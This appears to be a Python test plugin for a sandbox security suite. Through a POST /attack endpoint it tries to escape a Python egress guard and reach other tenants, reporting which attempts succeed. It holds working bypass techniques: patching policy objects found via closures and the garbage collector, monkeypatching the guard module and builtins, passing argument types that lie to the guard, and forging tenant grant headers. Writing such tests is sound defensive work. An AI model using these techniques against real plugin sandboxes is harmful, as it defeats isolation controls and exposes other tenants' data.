"""A hostile Python plugin: POST /attack with the targets (JSON) runs every attempt and
answers a list of {area, attempt, through, detail}, and the evidence of those only an OS
boundary stops (``containment.py``).

An attempt got through when the guard did not stop it: it reached its target, or it
failed for another reason (no such host, connection refused), which means it was on the
network. Every connection that is made sends the attempt's name (its marker), so the
test's victim servers can confirm it.
"""

from __future__ import annotations

import builtins
import contextlib
import gc
import os
import secrets
import socket
import sys
from collections.abc import Callable
from typing import Any

import containment
import httpx
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

EGRESS = "egress (Python guard)"
TAMPER = "guard tamper (Python)"
TENANT = "tenant (Python plugin)"


class Refused(Exception):
    """The simulator refused (an HTTP answer that is not 2xx)."""


def refused_by_guard(error: BaseException) -> bool:
    text = f"{type(error).__name__}: {error}"
    return isinstance(error, Refused) or ("powerx:" in text and "blocked" in text)


def connect(host: Any, port: Any, marker: str) -> str:
    with socket.create_connection((host, port), timeout=3) as sock:
        sock.sendall(marker.encode() + b"\n")
    return f"connected to {host}:{port}"


def raw_connect(host: Any, port: Any, marker: str) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(3)
    try:
        sock.connect((host, port))
        sock.sendall(marker.encode() + b"\n")
    finally:
        sock.close()
    return "connected"


def udp(method: str, host: str, port: int, marker: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        if method == "sendmsg":
            sock.sendmsg([marker.encode()], [], 0, (host, port))
        else:
            sock.sendto(marker.encode(), (host, port))
    return f"sent to {host}:{port}"


def host_api(path: str, headers: dict[str, str]) -> str:
    base = os.environ["POWERX_HOST_URL"]
    token = os.environ["POWERX_PLUGIN_TOKEN"]
    response = httpx.get(
        base + "/host/api" + path, headers={"authorization": f"Bearer {token}", **headers}
    )
    if response.status_code >= 300:
        raise Refused(f"{response.status_code} {response.text[:150]}")
    return response.text[:150]


# -- tampering with the guard ---------------------------------------------------------


def find_policies(start: object) -> list[Any]:
    """Objects that look like the guard's policy, reachable from ``start``'s closures."""
    found, seen, todo = [], set(), [start]
    while todo:
        item = todo.pop()
        if id(item) in seen:
            continue
        seen.add(id(item))
        if type(item).__name__ == "EgressPolicy":
            found.append(item)
        for cell in getattr(item, "__closure__", None) or ():
            with contextlib.suppress(ValueError):  # an empty cell
                todo.append(cell.cell_contents)
    return found


def widen(policy: Any, address: str) -> None:
    for name in ("allow", "resolved"):
        value = getattr(policy, name, None)
        if isinstance(value, list):
            value.append(address)
        elif isinstance(value, set):
            value.add(address)


def tamper_closure(victim: int, marker: str) -> str:
    for policy in find_policies(socket.getaddrinfo):
        widen(policy, "127.0.0.1")
    return connect("127.0.0.1", victim, marker)


def tamper_gc(victim: int, marker: str) -> str:
    with contextlib.suppress(Exception):  # refused or not, the connection decides
        for item in gc.get_objects():
            if type(item).__name__ == "EgressPolicy":
                widen(item, "127.0.0.1")
    return connect("127.0.0.1", victim, marker)


def tamper_module(victim: int, marker: str) -> str:
    for name, module in list(sys.modules.items()):
        if "egress_guard" in name:
            policy_class = getattr(module, "EgressPolicy", None)
            if policy_class is not None:
                policy_class.verdict = lambda self, host, port: None
            module.matches = lambda host, pattern: True
    return connect("127.0.0.1", victim, marker)


def tamper_builtins(victim: int, marker: str) -> str:
    saved = builtins.any
    builtins.any = lambda iterable: True
    try:
        return connect("127.0.0.1", victim, marker)
    finally:
        builtins.any = saved


def lying_arguments(victim: int, simulator_port: int, marker: str) -> str:
    """A host and port whose methods tell the guard one thing; the socket uses the value."""

    class Host(str):
        def __str__(self) -> str:
            return "127.0.0.1"

    class Port(int):
        def __int__(self) -> int:
            return simulator_port

        __index__ = __int__

    return raw_connect(Host("127.0.0.2"), Port(victim), marker)


def add_audit_hook() -> str:
    seen: list[str] = []
    sys.addaudithook(lambda event, args: seen.append(event) if event == "powerx.probe" else None)
    sys.audit("powerx.probe")
    if not seen:
        raise Refused("the plugin's audit hook never ran")
    return "the plugin's audit hook runs"


# -- the run -------------------------------------------------------------------------


def run(targets: dict[str, Any], request: Request) -> list[dict[str, Any]]:
    results: list[dict[str, Any]] = []

    def attempt(area: str, name: str, action: Callable[[str], str]) -> None:
        """Run one attempt; ``action`` gets the name to send as its marker."""
        try:
            detail, through = action(name), True
        except BaseException as error:
            detail, through = f"{type(error).__name__}: {error}", not refused_by_guard(error)
        results.append({"area": area, "attempt": name, "through": through, "detail": detail[:300]})

    victim, victim_udp = targets["victim_tcp"], targets["victim_udp"]
    machine = targets.get("machine_address")
    simulator_port = int(os.environ["POWERX_HOST_URL"].rsplit(":", 1)[1])

    def after(first: Callable[[], object], host: str) -> Callable[[str], str]:
        return lambda marker: (first(), connect(host, victim, marker))[1]

    attempt(EGRESS, "loopback_other_port", lambda m: connect("127.0.0.1", victim, m))
    attempt(EGRESS, "loopback_127_0_0_2", lambda m: connect("127.0.0.2", victim, m))
    if machine:
        attempt(EGRESS, "machine_address", lambda m: connect(machine, victim, m))
    lookup = after(lambda: socket.getaddrinfo("localhost", None), "127.0.0.1")
    attempt(EGRESS, "lookup_localhost_then_other_port", lookup)
    host_call = after(lambda: host_api("/kv/greeting", {}), "127.0.0.1")
    attempt(EGRESS, "host_api_call_then_other_port", host_call)
    attempt(EGRESS, "udp_sendmsg", lambda m: udp("sendmsg", "127.0.0.1", victim_udp, m))
    attempt(EGRESS, "udp_sendto", lambda m: udp("sendto", "127.0.0.1", victim_udp, m))
    attempt(EGRESS, "production_lookup", lambda m: str(socket.getaddrinfo("api.powerx.io", 443)))
    attempt(EGRESS, "reverse_lookup_query", lambda m: str(socket.gethostbyaddr("203.0.113.7")))

    attempt(TAMPER, "policy_through_getaddrinfo_closure", lambda m: tamper_closure(victim, m))
    attempt(TAMPER, "policy_through_gc", lambda m: tamper_gc(victim, m))
    attempt(TAMPER, "patch_guard_module", lambda m: tamper_module(victim, m))
    attempt(TAMPER, "patch_builtins", lambda m: tamper_builtins(victim, m))
    attempt(TAMPER, "lying_argument_types", lambda m: lying_arguments(victim, simulator_port, m))
    attempt(TAMPER, "add_audit_hook", lambda m: add_audit_hook())

    other = targets["other_tenant"]
    own_grant = request.headers.get("x-powerx-grant", "")
    forged = secrets.token_hex(32)
    for name, grant in (
        ("tenant_header", None),
        ("tenant_with_the_requests_grant", own_grant),
        ("tenant_with_a_forged_grant", forged),
    ):
        headers = {"x-powerx-tenant": other, **({"x-powerx-grant": grant} if grant else {})}
        attempt(TENANT, name, lambda m, headers=headers: host_api("/kv/greeting", headers))
    return results + containment.attempts(targets)


async def attack(request: Request) -> JSONResponse:
    targets = await request.json()
    return JSONResponse(run(targets, request))


app = Starlette(routes=[Route("/attack", attack, methods=["POST"])])
